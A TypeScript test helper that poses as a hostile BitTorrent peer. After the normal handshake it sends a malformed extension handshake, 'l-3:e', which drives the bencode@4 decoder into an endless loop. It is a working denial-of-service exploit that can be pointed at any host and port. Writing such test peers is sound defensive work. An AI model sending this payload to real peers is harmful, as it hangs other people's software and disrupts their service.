/**
 * A hostile peer for tests: completes a BitTorrent handshake for an info hash, then sends an
 * extension-protocol handshake whose payload is `l-3:e` (a list holding a string of length -3),
 * which sends bencode@4's decoder into an endless loop.
 */
import { randomBytes } from 'node:crypto';
import net from 'node:net';

const PROTOCOL = 'BitTorrent protocol';
const HANDSHAKE_BYTES = 68;
const MSG_EXTENDED = 20;
const EXTENDED_HANDSHAKE = 0;
/** Reserved byte 5, bit 0x10: the extension protocol (BEP 10). */
const RESERVED_EXTENSIONS = 0x10;

/** Sends the poisoned extension handshake to host:port; resolves once it is written after the peer's handshake. */
export async function sendPoisonedHandshake(host: string, port: number, infoHashHex: string, timeoutMs = 10_000): Promise<net.Socket> {
  const socket = net.connect(port, host);
  socket.on('error', () => undefined);
  const reserved = Buffer.alloc(8);
  reserved[5] = RESERVED_EXTENSIONS;
  const handshake = Buffer.concat([Buffer.from([PROTOCOL.length]), Buffer.from(PROTOCOL), reserved, Buffer.from(infoHashHex, 'hex'), randomBytes(20)]);
  const payload = Buffer.from('l-3:e');
  const message = Buffer.alloc(4 + 2 + payload.length);
  message.writeUInt32BE(2 + payload.length, 0);
  message[4] = MSG_EXTENDED;
  message[5] = EXTENDED_HANDSHAKE;
  payload.copy(message, 6);
  await new Promise<void>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`no handshake from ${host}:${port} within ${timeoutMs} ms`)), timeoutMs);
    let got = 0;
    let sent = false;
    socket.once('connect', () => socket.write(handshake));
    socket.on('data', (d: Buffer) => {
      got += d.length;
      if (got < HANDSHAKE_BYTES || sent) return;
      sent = true;
      clearTimeout(timer);
      socket.write(message, () => resolve());
    });
    socket.once('close', () => reject(new Error('the peer closed the connection before its handshake')));
  });
  return socket;
}
